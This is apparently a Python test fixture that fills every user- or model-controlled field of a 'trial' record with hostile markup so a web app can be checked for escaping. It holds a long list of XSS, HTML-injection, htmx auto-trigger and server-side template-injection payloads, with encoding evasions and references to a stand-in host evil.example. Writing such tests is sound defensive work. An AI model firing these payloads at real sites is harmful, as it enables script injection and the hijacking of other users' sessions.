"""Trials in which every field that strangers or models control is markup or script, none of which may take effect."""

from __future__ import annotations

from court.events import VerdictGiven
from tests.support.shown_trials import drawn_picture, full_trial

PAYLOADS = [
    *(f"<script>window.__xss={n}</script>" for n in range(4)),
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1',
    "' onfocus='window.__xss=1' autofocus='",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</pre></details><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script>",
    "]]><script>window.__xss=1</script>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<iframe src=javascript:parent.__xss=1>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<form action=//evil.example><button>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{display:none}</style>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<div hx-get='/sign-out' hx-trigger='load'>",
    "<div hx-post='/trials/one/show' hx-trigger='load' hx-vals='{\"of\":\"meme\"}'>",
    "<div hx-on::load='window.__xss=1'>",
    "<div data-hx-get='/' data-hx-trigger=load>",
    "<button data-key=b>",
    "<img src=//evil.example/pixel.gif>",
    "<video src=//evil.example/v onerror=window.__xss=1>",
    "<audio src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<math href=javascript:window.__xss=1>x</math>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><use href=//evil.example/x#y>",
    "{{ 7*7 }}",
    "{{ config }}",
    "{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ request.app.state.console }}",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "//evil.example",
    "https://evil.example/<script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>window.__xss=1</script>",
    "<script/x>window.__xss=1</script>",
    "<img/src=x/onerror=window.__xss=1>",
    "<img src='x'onerror=window.__xss=1>",
    "<\u200bscript>window.__xss=1</script>",
    "\u202e<script>window.__xss=1</script>\u202c",
    "＜script＞window.__xss=1＜/script＞",
    "\u2028<script>window.__xss=1</script>",
    "\ufeff<script>window.__xss=1",
    "<!--<script>window.__xss=1//-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><script>window.__xss=1</script>",
    "`${window.__xss=1}`",
    "';window.__xss=1;//",
    '";window.__xss=1;//',
    "\\';window.__xss=1;//",
    "</script><script>window.__xss=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<template><script>window.__xss=1</script></template>",
    "<xmp><script>window.__xss=1</script></xmp>",
    "<plaintext>",
    "<textarea>",
    "<select><option>",
    "<!--",
    "<a name=head id=head>",
    "<form id=head><input name=id>",
    "<img name=body>",
    "<p id=main>",
    "<x onclick=window.__xss=1 tabindex=1 id=x>",
    "<body onload=window.__xss=1>",
    "<html onmouseover=window.__xss=1>",
    "<table background=javascript:window.__xss=1>",
    "<isindex type=image src=1 onerror=window.__xss=1>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x>",
    "<dialog open oncancel=window.__xss=1>",
    "<a ping=//evil.example href=#>x</a>",
    "<portal src=//evil.example>",
    "<fencedframe src=//evil.example>",
    "<span class=unseen onclick=window.__xss=1>",
    "<img src=x:x onerror=window['__xss']=1>",
]


def hostile(trial_id, payloads):
    """Returns the events of a trial in which every text and id controlled by others is a payload, in turn."""
    turn = iter(range(10**6))

    def word(_="", least=1):
        return payloads[next(turn) % len(payloads)]

    events = full_trial(
        trial_id,
        picture=drawn_picture(),
        text=word(),
        description=word(),
        rationale=word(),
        harmful=(word(), word()),
        harmless=(word(),),
        transform=word,
        namespace=word()[:100],
        content_id=word(),
        model=word(),
    )
    opened, verdict_event = events[0], events[-1]
    assert isinstance(verdict_event, VerdictGiven)
    versions = opened.versions.model_copy(update={"software": word(), "library": word(), "encoder": word()})
    policy = opened.policy.model_copy(update={"id": word(), "version": word(), "digest": word()})
    events[0] = opened.model_copy(
        update={
            "versions": versions,
            "policy": policy,
            "request_id": word(),
            "settings": {**opened.settings, word(): word()},
        }
    )
    reasons = tuple(one.model_copy(update={"detail": word()}) for one in verdict_event.verdict.review)
    events[-1] = verdict_event.model_copy(
        update={"verdict": verdict_event.verdict.model_copy(update={"review": reasons})}
    )
    out = []
    for event in events:
        if event.kind == "PrecedentsCited":
            exhibits = tuple(
                one.model_copy(update={"id": f"{word()}{place}", "categories": (word(),), "source": word()})
                for place, one in enumerate(event.findings.exhibits)
            )
            library = event.findings.library.model_copy(update={"name": word()})
            event = event.model_copy(
                update={
                    "findings": event.findings.model_copy(
                        update={"exhibits": exhibits, "library": library, "notes": (word(),)}
                    )
                }
            )
        out.append(event)
    return out
